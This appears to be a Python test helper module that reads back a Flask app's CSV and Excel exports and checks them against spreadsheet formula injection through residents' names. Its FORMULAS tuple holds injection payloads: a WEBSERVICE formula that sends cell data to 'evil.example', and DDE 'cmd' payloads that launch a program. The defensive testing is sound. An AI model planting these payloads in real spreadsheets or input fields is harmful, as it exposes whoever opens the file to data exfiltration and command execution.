"""Reading the CSV and Excel exports back, and the names an attacker gives themselves to reach
them."""

from __future__ import annotations

import csv
import io
from datetime import datetime, time
from typing import Any

from flask.testing import FlaskClient
from openpyxl import load_workbook

from tests.factories import Account

#: Text that a spreadsheet would run as a formula: one for each character that starts one.
FORMULAS = (
    '=WEBSERVICE("http://evil.example/?p="&D3&D4)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)


def csv_rows(response: Any) -> list[list[str]]:
    """The export's rows, header first, as Excel would split them."""
    assert response.status_code == 200, response.data[:300]
    assert response.content_type == "text/csv; charset=utf-8"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")  # so Excel reads UTF-8
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def renamed(client: FlaskClient, resident: Account, name: str) -> Account:
    """The resident gives themselves ``name`` in the mini-program."""
    response = client.patch("/api/v1/me", headers=resident.headers, json={"name": name})
    assert response.status_code == 200, response.json
    return resident


def xlsx_rows(response: Any, sheet: int = 0) -> list[list[Any]]:
    """A downloaded workbook's rows (of its first sheet unless told), header first."""
    assert response.status_code == 200, response.data[:300]
    assert response.content_type.startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(response.data))
    return [[cell.value for cell in row] for row in workbook.worksheets[sheet].iter_rows()]


def same_cells(rows: list[list[Any]]) -> list[list[Any]]:
    """Rows of a CSV file or a workbook, each cell as the other would hold it: numbers as
    numbers (a workbook keeps 1.0 as 1), days and times as the CSV writes them."""

    def cell(value: Any) -> Any:
        if value is None:
            return ""
        if isinstance(value, datetime):
            midnight = value.time() == time()  # a day: the tests' events never start at 0:00
            return value.date().isoformat() if midnight else value.strftime("%Y-%m-%d %H:%M:%S")
        if isinstance(value, int | float):
            return float(value)
        try:
            return float(value)
        except ValueError:
            return value

    return [[cell(value) for value in row] for row in rows]
